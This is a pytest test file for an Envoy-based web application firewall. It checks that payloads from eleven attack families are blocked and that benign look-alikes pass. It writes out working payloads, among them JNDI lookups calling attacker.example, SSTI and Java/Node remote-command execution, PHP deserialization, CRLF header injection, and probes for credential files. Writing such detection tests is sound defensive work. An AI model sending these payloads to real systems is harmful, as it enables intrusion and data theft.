"""Every attack family of the newer detectors through real Envoy.

For each family: one payload blocked on at least three request surfaces
(query, form body, JSON body, cookie, request headers, path, parameter
names), with the event naming the family, and benign look-alikes that must
reach the upstream. Default configuration, block mode.
"""
import json
import urllib.parse

import pytest

q = urllib.parse.quote


def query(v):
    return ("GET", "/search?q=" + q(v, safe=""), {}, None)


def form(v):
    return ("POST", "/submit", {"Content-Type": "application/x-www-form-urlencoded"}, ("q=" + q(v, safe="")).encode())


def form_key(k):
    return ("POST", "/submit", {"Content-Type": "application/x-www-form-urlencoded"}, (k + "=1").encode())


def json_body(v):
    return ("POST", "/api/items", {"Content-Type": "application/json"}, json.dumps({"q": v}).encode())


def json_doc(doc):
    return ("POST", "/api/items", {"Content-Type": "application/json"}, json.dumps(doc).encode())


def cookie(v):
    return ("GET", "/", {"Cookie": "pref=" + q(v, safe="")}, None)


def header(name, v):
    return ("GET", "/", {name: v}, None)


def path(p):
    return ("GET", p, {}, None)


# (attack type, payload requests on >= 3 surfaces, benign look-alikes)
FAMILIES = {
    "jndi_injection": (
        [
            query("${jndi:ldap://attacker.example/a}"),
            json_body("${${lower:j}ndi:${lower:l}dap://attacker.example/a}"),
            header("X-Api-Version", "${jndi:rmi://attacker.example:1099/x}"),
            header("User-Agent", "${${::-j}${::-n}${::-d}${::-i}:dns://attacker.example}"),
            cookie("${jndi:ldap://attacker.example/a}"),
        ],
        [query("${user.name} paid $5"), json_body("Hello ${name}, your code is {abc}")],
    ),
    "java_injection": (
        [
            query("%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
            form("T(java.lang.Runtime).getRuntime().exec('id')"),
            json_body("${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass())}"),
            form_key("class.module.classLoader.resources.context.parent.pipeline.first.pattern"),
        ],
        [query("java.lang.String is immutable"), form("100% {fun} #context")],
    ),
    "ssti": (
        [
            query("{{''.__class__.__mro__[1].__subclasses__()}}"),
            form("{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}"),
            json_body('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
            cookie("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
        ],
        [query("Hello {{name}}, you have {{count}} messages"), json_body("2 {{ 7*7 }} 49")],
    ),
    "node_injection": (
        [
            query("_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
            form("this.constructor.constructor('return process')().mainModule.require('child_process')"),
            json_body("new Function('return process.mainModule')()"),
            cookie("x=process.binding('spawn_sync')"),
        ],
        [query("a new function was added"), json_body("the constructor of the process was refactored")],
    ),
    "nosql_injection": (
        [
            ("GET", "/login?user=admin&password[$ne]=x", {}, None),
            form_key("password[$gt]"),
            json_doc({"username": "admin", "password": {"$ne": None}}),
            json_doc({"username": "admin", "$where": "this.password.match(/.*/)"}),
        ],
        [json_doc({"price": "$5", "note": "save $10 now"}), ("GET", "/list?filters[title]=x&sort[price]=asc", {}, None)],
    ),
    "ldap_injection": (
        [
            query("*)(uid=*))(|(uid=*"),
            form("admin)(&)"),
            json_body("x)(|(objectClass=*)"),
            cookie("*)(|(password=*)"),
        ],
        [query("(555) 123-4567"), form("a*b (see note)"), json_body("smile :-) (really)")],
    ),
    "prototype_pollution": (
        [
            ("GET", "/api?__proto__[admin]=1", {}, None),
            form_key("constructor[prototype][admin]"),
            ("POST", "/api/items", {"Content-Type": "application/json"}, b'{"__proto__": {"admin": true}}'),
            ("GET", "/api?a.constructor.prototype.isAdmin=1", {}, None),
        ],
        [json_doc({"constructor": "Bob the builder", "prototype": "v2"}), query("the __proto__ property is deprecated")],
    ),
    "php_injection": (
        [
            query('O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}'),
            form("<?php system($_GET['c']); ?>"),
            json_body("php://filter/convert.base64-encode/resource=index.php"),
            cookie('a:2:{i:0;O:14:"Monolog\\Logger":0:{}i:1;s:1:"x";}'),
        ],
        [query("php is a language"), form("I <3 PHP 8"), json_body("system (noun): a set of things")],
    ),
    "header_injection": (
        [
            ("GET", "/redirect?next=%2F%0d%0aSet-Cookie:%20session=attacker", {}, None),
            form("x\r\nLocation: https://attacker.example/"),
            json_body("en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK"),
            cookie("x\r\nSet-Cookie: admin=1"),
        ],
        [json_body("line one\nline two\nregards"), form("first\r\nsecond line")],
    ),
    "scanner": (
        [
            header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            header("User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"),
            header("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
        ],
        [
            header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"),
            header("User-Agent", "curl/8.5.0"),
            header("User-Agent", "python-requests/2.31.0"),
        ],
    ),
    "sensitive_path": (
        [path("/.git/config"), path("/app/.env"), path("/backup/db.sql.gz"), path("/%2egit/HEAD"), path("/.aws/credentials?x=1")],
        [path("/.well-known/security.txt"), path("/environment/settings"), path("/docs/git-guide.html"), path("/api/sql/report")],
    ),
}


def send(envoy, req):
    method, p, headers, body = req
    from conftest import request

    return request(envoy.port, method, p, headers, body)


@pytest.mark.parametrize("family", sorted(FAMILIES))
def test_family_blocked_on_surfaces_and_lookalikes_pass(envoy, family):
    attacks, benign = FAMILIES[family]
    assert len(attacks) >= 3
    for req in attacks:
        r = send(envoy, req)
        assert r.status == 403, (family, req, r)
        assert r.json()["type"] == family, (family, req, r.json())
    for req in benign:
        r = send(envoy, req)
        assert r.status == 200, (family, req, r)
